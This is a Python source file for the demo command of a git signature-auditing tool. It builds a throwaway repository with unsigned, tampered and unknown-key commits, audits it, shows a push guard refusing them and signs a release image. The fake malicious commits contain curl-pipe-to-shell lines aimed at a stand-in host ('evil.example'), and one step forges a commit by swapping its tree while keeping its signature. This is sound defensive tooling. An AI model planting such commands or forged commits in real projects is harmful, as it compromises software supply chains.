"""``guard demo``: a self-contained tour. Builds a throwaway repository with real git
and real throwaway SSH keys — good, unsigned, tampered and unknown-key commits and
a signed tag — then audits it and shows git's own view next to ours.

Nothing of the user's is touched: keys, git config and HOME are temporary."""

from __future__ import annotations

import os
import shutil
import sys
import tempfile
from pathlib import Path
from typing import IO, TYPE_CHECKING

from gitguard import tools
from gitguard.errors import GuardError

if TYPE_CHECKING:
    from gitguard.audit.results import Batch

EXPECTED = {
    "Add README": "good",
    "Add build script": "unsigned",
    "Fix the build script": "bad-signature",
    "Add a backdoor": "unknown-key",
    "Release 1.0": "good",
}


class _Env:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.repo = root / "repo"
        home = root / "home"
        home.mkdir(parents=True, exist_ok=True)
        (home / ".gitconfig").write_text("")
        self.env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": str(home),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
            "GIT_AUTHOR_NAME": "Alice",
            "GIT_AUTHOR_EMAIL": "alice@example.com",
            "GIT_COMMITTER_NAME": "Alice",
            "GIT_COMMITTER_EMAIL": "alice@example.com",
            "LC_ALL": "C",
        }

    def run(self, *cmd: str, stdin: bytes | None = None, cwd: Path | None = None) -> bytes:
        try:
            proc = tools.run(
                cmd, cwd=cwd or self.repo, env=self.env, input=stdin, timeout=60, check=False
            )
        except tools.ToolMissing as e:
            raise GuardError(
                f"the demo needs `{cmd[0]}` (Debian/Ubuntu: apt-get install git openssh-client)"
            ) from e
        if proc.returncode:
            raise GuardError(
                f"demo step `{' '.join(cmd)}` failed: "
                f"{proc.stderr.decode('utf-8', 'replace').strip()}"
            )
        return proc.stdout

    def keygen(self, name: str) -> Path:
        key = self.root / "keys" / name
        key.parent.mkdir(exist_ok=True)
        self.run(
            "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key), cwd=self.root
        )
        return key

    def commit(self, path: str, text: str, message: str, key: Path | None) -> None:
        (self.repo / path).write_text(text)
        self.run("git", "add", path)
        sign = (
            ["-c", f"user.signingkey={key}.pub", "commit", "-S"]
            if key
            else ["commit", "--no-gpg-sign"]
        )
        self.run("git", *sign, "-q", "-m", message)


def build(root: Path) -> tuple[Path, Path]:
    """Build the demo repository under ``root``; return (repo, allowed_signers)."""
    env = _Env(root)
    alice = env.keygen("alice")
    mallory = env.keygen("mallory")
    allowed = root / "allowed_signers"
    pub = (alice.with_suffix(".pub")).read_text().split()
    allowed.write_text(f"alice@example.com {pub[0]} {pub[1]}\n")
    env.run("git", "init", "-q", "-b", "main", str(env.repo), cwd=root)
    env.run("git", "config", "gpg.format", "ssh")
    env.run("git", "config", "gpg.ssh.allowedSignersFile", str(allowed))

    env.commit("README", "A demo project.\n", "Add README", alice)
    env.commit("build.sh", "make all\n", "Add build script", None)
    env.commit("build.sh", "make all test\n", "Fix the build script", alice)
    # Tamper: swap the signed commit's tree for different content, keep its signature.
    (env.repo / "build.sh").write_text("make all test && curl -s evil.example | sh\n")
    env.run("git", "add", "build.sh")
    tree = env.run("git", "write-tree").decode().strip()
    raw = env.run("git", "cat-file", "commit", "HEAD")
    _, _, rest = raw.partition(b"\n")
    forged = b"tree " + tree.encode() + b"\n" + rest
    new = env.run("git", "hash-object", "-t", "commit", "-w", "--stdin", stdin=forged)
    env.run("git", "update-ref", "refs/heads/main", new.decode().strip())
    env.run("git", "reset", "-q", "--hard")
    env.commit("backdoor.sh", "curl evil | sh\n", "Add a backdoor", mallory)
    env.commit("VERSION", "1.0\n", "Release 1.0", alice)
    env.run("git", "-c", f"user.signingkey={alice}.pub", "tag", "-s", "-m", "Version 1.0", "v1.0")
    return env.repo, allowed


def _push_lines(env: _Env, *args: str) -> tuple[int, list[str]]:
    """Run ``git push`` in the demo repository; (exit status, what the pusher sees)."""
    proc = tools.run(("git", "push", *args), cwd=env.repo, env=env.env, timeout=120, check=False)
    text = proc.stderr.decode("utf-8", "replace")
    return proc.returncode, [line.rstrip() for line in text.splitlines() if line.strip()]


def server_demo(root: Path, allowed: Path, out: IO[str]) -> bool:
    """Guard a bare repository and push the demo history into it: the first,
    signed commit is accepted, the rest of the history is refused. True when it
    behaved exactly so."""
    from gitguard.server.install import install

    env = _Env(root)
    server = root / "server.git"
    env.run("git", "init", "-q", "--bare", str(server), cwd=root)
    policy = root / "policy.toml"
    policy.write_text(
        "version = 1\n\n"
        "[trust]\n"
        f'allowed_signers = "{allowed.name}"\n\n'
        "[[rule]]\n"
        'refs = ["refs/heads/*"]\n'
        'require = "signed"\n'
        'signers = ["alice@example.com"]\n'
        "allow_force_push = false\n"
    )
    install(server, policy=policy)
    out.write(
        "\nNow the receive guard. A bare repository guarded by this policy:\n\n"
        + "".join(f"  {line}\n" for line in policy.read_text().splitlines())
        + f"\n$ guard server install {server} --policy {policy}\n"
    )
    first = env.run("git", "rev-list", "--max-parents=0", "main").decode().strip()
    out.write(f"\n$ git push {server} {first[:12]}:refs/heads/main   # the signed first commit\n")
    rc_good, lines = _push_lines(env, str(server), f"{first}:refs/heads/main")
    out.write("".join(f"  {line}\n" for line in lines))
    out.write(f"\n$ git push {server} main   # the rest of the history\n")
    rc_bad, lines = _push_lines(env, str(server), "main")
    out.write("".join(f"  {line}\n" for line in lines))
    landed = env.run("git", "--git-dir", str(server), "rev-parse", "refs/heads/main").decode()
    return rc_good == 0 and rc_bad != 0 and landed.strip() == first


def _demo_image(layout: Path, tag: str) -> str:
    """A minimal single-platform image in a new OCI layout; returns its digest."""
    import json

    from gitguard.images.oci import OCI_CONFIG, OCI_MANIFEST, LayoutStore

    def dump(doc: object) -> bytes:
        return json.dumps(doc, separators=(",", ":")).encode()

    store = LayoutStore(layout, create=True)
    config = dump({"architecture": "amd64", "os": "linux",
                   "rootfs": {"type": "layers", "diff_ids": []}})  # fmt: skip
    layer = b"the demo application"
    manifest = dump(
        {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {
                "mediaType": OCI_CONFIG,
                "size": len(config),
                "digest": store.put_blob(config),
            },
            "layers": [
                {
                    "mediaType": "application/vnd.oci.image.layer.v1.tar",
                    "size": len(layer),
                    "digest": store.put_blob(layer),
                }
            ],
        }
    )
    return store.put_manifest(tag, manifest, OCI_MANIFEST)


def release_demo(root: Path, out: IO[str]) -> bool:
    """Release signing: a signed tag pushed to the guarded repository signs the image
    built for it (an OCI layout here) with a cosign-compatible signature."""
    import os

    from gitguard.images.keys import generate_key_pair

    env = _Env(root)
    server = root / "server.git"
    layout = root / "images" / "app"
    digest = _demo_image(layout, "v0.1")
    password = "demo password"  # noqa: S105 - a throwaway key in a temporary directory
    private, public = generate_key_pair(password.encode())
    key = root / "cosign.key"
    key.write_bytes(private)
    os.chmod(key, 0o600)
    (root / "cosign.pub").write_bytes(public)
    policy = root / "policy.toml"
    policy.write_text(
        policy.read_text() + "\n[[rule]]\n"
        'refs = ["refs/tags/v*"]\n'
        'require = "signed-tag"\n'
        'signers = ["alice@example.com"]\n'
        "\n[release]\n"
        'tags = ["refs/tags/v*"]\n'
        f'images = ["oci:{layout}:{{tag}}"]\n'
        'key = "cosign.key"\n'
        'annotations = { team = "demo" }\n'
    )
    out.write(
        "\nRelease signing. The policy gains a tag rule and a [release] section:\n\n"
        + "".join(f"  {line}\n" for line in policy.read_text().splitlines()[11:])
        + f"\nThe image built for v0.1 is {digest} in the OCI layout {layout}.\n"
    )
    first = env.run("git", "rev-list", "--max-parents=0", "main").decode().strip()
    alice = root / "keys" / "alice"
    env.run("git", "-c", f"user.signingkey={alice}.pub", "tag", "-s", "-m", "Version 0.1",
            "v0.1", first)  # fmt: skip
    env.env["GUARD_COSIGN_PASSWORD"] = password
    out.write(f"\n$ git push {server} v0.1   # a tag signed by alice\n")
    rc, lines = _push_lines(env, str(server), "refs/tags/v0.1")
    out.write("".join(f"  {line}\n" for line in lines))
    verify = tools.run(
        (sys.executable, "-m", "gitguard", "image", "verify", "--key",
         str(root / "cosign.pub"), "-a", "gitguard.tag=v0.1",
         "--identity", "localhost/app:v0.1", f"oci:{layout}:v0.1"),
        check=False, env=env.env, timeout=60,
    )  # fmt: skip
    out.write(
        f"\n$ guard image verify --key cosign.pub -a gitguard.tag=v0.1 "
        f"--identity localhost/app:v0.1 oci:{layout}:v0.1\n"
    )
    for said in (verify.stderr, verify.stdout):
        text = said.decode("utf-8", "replace")
        out.write("".join(f"  {line}\n" for line in text.splitlines()[:12]))
    return rc == 0 and verify.returncode == 0


def run_demo(keep: Path | None, out: IO[str]) -> int:
    from gitguard.audit.report import TextReport
    from gitguard.audit.run import AuditSpec, run_audit
    from gitguard.gitobjects import open_repo
    from gitguard.trust.files import load_key_files

    if keep is not None:
        if keep.exists() and any(keep.iterdir()):
            raise GuardError(f"{keep} exists and is not empty")
        keep.mkdir(parents=True, exist_ok=True)
        root = keep
    else:
        root = Path(tempfile.mkdtemp(prefix="gitguard-demo-"))
    try:
        out.write(f"Building a demo repository in {root / 'repo'} …\n")
        repo_path, allowed = build(root)
        env = _Env(root)
        gitview = env.run("git", "log", "--format=%h %G? %s", "main").decode()
        out.write("\ngit's own view (`git log --format='%h %G? %s'`, ~1 process per commit):\n")
        for line in gitview.splitlines():
            out.write(f"  {line}\n")
        out.write(f"\n$ guard -C {repo_path} audit --all --allowed-signers {allowed}\n\n")
        trust = load_key_files([allowed], [])
        repo = open_repo(repo_path)
        report = TextReport(out, color=False)
        found: dict[str, str] = {}

        def sink(batch: Batch) -> None:
            report.add_batch(batch)
            for v in batch.offending:
                found[v.subject] = v.status.value

        summary = run_audit(
            AuditSpec(repo=repo, trust=trust, policy=None),
            [],
            all_refs=True,
            jobs=1,
            sink=sink,
        )
        report.finish(summary)
        expected_bad = {k: v for k, v in EXPECTED.items() if v != "good"}
        goods = sum(v == "good" for v in EXPECTED.values()) + 1  # and the tag v1.0
        good = summary.by_status.get("good", 0)
        if found != expected_bad or good != goods:
            out.write(
                f"\ndemo: unexpected verdicts {found} and {good} good objects "
                f"(expected {expected_bad} and {goods})\n"
            )
            return 1
        out.write(
            "\nThe audit found the unsigned, tampered and unknown-key commits, as expected\n"
            "(a real `guard audit` with these findings exits with status 1).\n"
        )
        if not server_demo(root, allowed, out):
            out.write("\ndemo: the receive guard did not accept/refuse as expected\n")
            return 1
        out.write(
            "\nThe guard accepted the signed commit and refused the history with the\n"
            "unsigned, tampered and unknown-key commits; main still points at the good one.\n"
        )
        if not release_demo(root, out):
            out.write("\ndemo: release signing did not produce a verifiable signature\n")
            return 1
        out.write(
            "\nThe signed release tag produced a cosign-compatible signature that names the\n"
            "tag, tag object, commit and signer; cosign and skopeo verify it the same way.\n"
        )
        return 0
    finally:
        if keep is None:
            shutil.rmtree(root, ignore_errors=True)
